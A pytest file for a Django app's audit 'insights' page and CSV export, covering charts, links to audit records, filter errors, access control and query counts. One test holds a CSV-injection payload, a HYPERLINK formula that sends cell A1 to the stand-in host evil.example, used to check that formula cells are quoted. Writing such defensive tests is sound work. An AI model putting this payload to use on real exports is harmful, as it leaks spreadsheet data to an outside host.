"""The insights page and its CSV: what a reviewer sees, its links into the audit, bad filters, access."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from urllib.parse import parse_qs, urlparse

import pytest
from django.db import connection
from django.utils import timezone

from audit import chain
from audit.recorders import build_record
from insights import rollup

from .history import RANGE, build

pytestmark = pytest.mark.django_db


@pytest.fixture
def history(operator):
    return build(operator)


@pytest.fixture
def reviewer_client(client, reviewer):
    client.force_login(reviewer)
    return client


def _links(html: str) -> list[str]:
    return [href.replace("&amp;", "&") for href in re.findall(r'href="(/audit/\?[^"]+)"', html)]


def _seqs_listed(client, url: str) -> list[int]:
    response = client.get(url)
    assert response.status_code == 200
    return sorted(int(n) for n in re.findall(r'<td class="muted">#(\d+)</td>', response.content.decode()))


def test_page_shows_the_figures_as_svg_with_tables(history, reviewer_client):
    response = reviewer_client.get("/insights/", RANGE)
    html = response.content.decode()
    assert response.status_code == 200
    assert html.count('<svg class="chart"') == 4
    assert ('role="img" aria-label="Decisions per day by outcome, 10 in all: 3 allowed, 6 requires approval, '
            '1 blocked') in html
    assert '<td>refund_payment</td><td>5</td>' in html  # the requests chart's table
    assert '<dd id="median-time">4 min 0 s</dd>' in html and '<dd id="p90-time">8 min 0 s</dd>' in html
    assert "16.7 %" in html  # expiry and escalation: 1 of 6
    assert re.search(r'<td><a href="[^"]+">rita</a></td><td>3</td><td>1</td><td>2</td><td>2 min 0 s</td>', html)
    assert "<script" not in html.split("<main>")[1]  # drawn on the server: no script in the page body


def test_a_bar_links_to_exactly_the_records_it_counts(history, reviewer_client):
    html = reviewer_client.get("/insights/", RANGE).content.decode()
    day = [url for url in _links(html) if "decision=requires_approval" in url and "since=2026-11-03T00%3A00" in url]
    assert len(day) == 1
    assert _seqs_listed(reviewer_client, day[0]) == sorted(history["nov3_requests"])  # those five, nothing else


def test_no_bar_counts_what_followed_a_review(history, reviewer_client):
    html = reviewer_client.get("/insights/", RANGE).content.decode()
    per_day = html.split('id="per-day"')[1].split("</section>")[0]
    assert not [url for url in _links(per_day) if "decision=denied" in url or "decision=expired" in url]
    assert "Denied" not in per_day and "Expired" not in per_day  # in the legend or the table's head
    allowed = [url for url in _links(per_day) if "decision=allowed" in url and "since=2026-11-02T00%3A00" in url]
    # Near, as insights/links.py says: the approved refund's run is listed too (its call counted as a request).
    assert _seqs_listed(reviewer_client, allowed[0]) == sorted(history["nov2"][:2] + history["followed_a_review"][:1])


def test_links_carry_the_filters(history, reviewer_client):
    filters = {**RANGE, "tool": "refund_payment", "actor": "billing-bot"}
    html = reviewer_client.get("/insights/", filters).content.decode()
    for url in _links(html):
        params = parse_qs(urlparse(url).query)
        assert params["tool"] == ["refund_payment"] and params["actor"] == ["billing-bot"]
        assert params["since"][0] >= "2026-11-02T00:00" and params["until"][0] <= "2026-11-04T00:00"
    reviewer_link = next(u for u in _links(html) if "reviewer=rob" in u)
    # rob's refund denial, and his vote (the audit page has no status filter: see insights/links.py)
    expected = sorted([history["resolutions"][2], history["not_counted"][0]])
    assert _seqs_listed(reviewer_client, reviewer_link) == expected


def test_default_range_is_the_last_30_days(reviewer_client, db):
    now = timezone.now()
    chain.append([build_record(kind="decision", decision="blocked", status="blocked", tool="t", occurred_at=when,
                               details={}) for when in (now - timedelta(days=1), now - timedelta(days=40))])
    chain.seal()
    html = reviewer_client.get("/insights/").content.decode()
    assert "Decisions per day by outcome, 1 in all: 1 blocked" in html


@pytest.mark.parametrize(("query", "message"), [
    ({"since": "2026-11-05", "until": "2026-11-01"}, "“Until” must be on or after “From”."),
    ({"since": "yesterday"}, "Enter a valid date."),
    ({"since": "2020-01-01", "until": "2026-11-01"}, "The range may cover at most 366 days."),
    ({"tool": "x" * 65}, "Ensure this value has at most 64 characters"),
])
def test_bad_filters_get_400_with_the_reason_and_keep_what_was_typed(reviewer_client, query, message):
    response = reviewer_client.get("/insights/", query)
    html = response.content.decode()
    assert response.status_code == 400
    assert message in html and "Nothing was counted" in html
    for value in query.values():
        assert f'value="{value}"' in html
    csv_response = reviewer_client.get("/insights/insights.csv", query)
    assert csv_response.status_code == 400 and message in csv_response.content.decode()


def test_csv_holds_the_same_figures(history, reviewer_client):
    response = reviewer_client.get("/insights/insights.csv", RANGE)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="insights-20261102-20261103.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["section", "key", "detail", "value"]
    assert ["decisions_per_day", "2026-11-03", "requires_approval", "5"] in rows
    assert ["requests_by_tool", "refund_payment", "", "5"] in rows
    assert ["time_to_decision_seconds", "median", "", "240.0"] in rows
    assert ["time_to_decision_seconds", "p90", "", "480.0"] in rows
    assert ["rates", "expiry_rate", "", "0.1667"] in rows and ["rates", "escalation_rate", "", "0.1667"] in rows
    assert ["denial_reasons", "duplicate charge", "", "2"] in rows
    assert ["decisions_by_hour_utc", "09", "", "7"] in rows
    assert ["reviewer", "rob", "median_seconds", "450.0"] in rows
    page = reviewer_client.get("/insights/", RANGE).content.decode()
    assert 'href="/insights/insights.csv?since=2026-11-02&amp;until=2026-11-03"' in page


def test_csv_cells_a_spreadsheet_would_run_are_quoted(reviewer_client):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    chain.append([build_record(kind="approval", decision="denied", status="denied", tool="@sum", reviewer="-rob",
                               occurred_at=timezone.now(), details={"comment": formula})])
    chain.seal()
    rows = list(csv.reader(io.StringIO(reviewer_client.get("/insights/insights.csv").content.decode())))
    assert ["denial_reasons", "'" + formula, "", "1"] in rows
    assert ["reviewer", "'-rob", "denied", "1"] in rows
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


def test_operator_without_the_audit_permission_is_refused(client, operator):
    client.force_login(operator)
    assert client.get("/insights/").status_code == 403
    assert client.get("/insights/insights.csv").status_code == 403
    assert "/insights/" not in client.get("/runs/").content.decode()  # and the nav does not offer it


def test_anonymous_is_sent_to_login(client, db):
    response = client.get("/insights/")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_reviewer_sees_the_nav_link(reviewer_client):
    assert 'href="/insights/"' in reviewer_client.get("/runs/").content.decode()


@pytest.mark.parametrize("tools", [1, 8])
def test_query_count_does_not_grow_with_the_history(reviewer_page, tools):
    chain.append([build_record(kind="approval", decision="denied", status="denied", tool=f"tool{n}",
                               reviewer=f"rev{n}", occurred_at=timezone.now() - timedelta(hours=i),
                               details={"comment": f"c{n}"}) for n in range(tools) for i in range(10)])
    chain.seal()
    rollup.catch_up(most=None)
    # session, user, permissions (user, groups); the fold: savepoint, watermark locked, new records (none),
    # release; the day counts, the hourly sums, the resolutions (PostgreSQL: per reviewer, then the overall
    # percentiles), the denial reasons, how far behind, nav count.
    reviewer_page("/insights/", queries=15 if connection.vendor == "postgresql" else 14)


def test_page_says_when_records_wait_to_be_counted(reviewer_client, monkeypatch):
    chain.seal()  # creating the reviewer wrote configuration records: counted first, so only ours wait
    rollup.catch_up(most=None)
    monkeypatch.setattr(rollup, "ON_READ", 2)  # a page counts at most this many new records itself
    chain.append([build_record(kind="decision", decision="blocked", status="blocked", tool="t",
                               occurred_at=timezone.now(), details={}) for _ in range(5)])
    chain.seal()
    html = reviewer_client.get("/insights/").content.decode()
    assert "Still counting: 3 recent audit records are not in these figures yet." in html
    assert "Decisions per day by outcome, 2 in all" in html
    rollup.catch_up(most=None)  # what beat does
    html = reviewer_client.get("/insights/").content.decode()
    assert "Still counting" not in html and "Decisions per day by outcome, 5 in all" in html
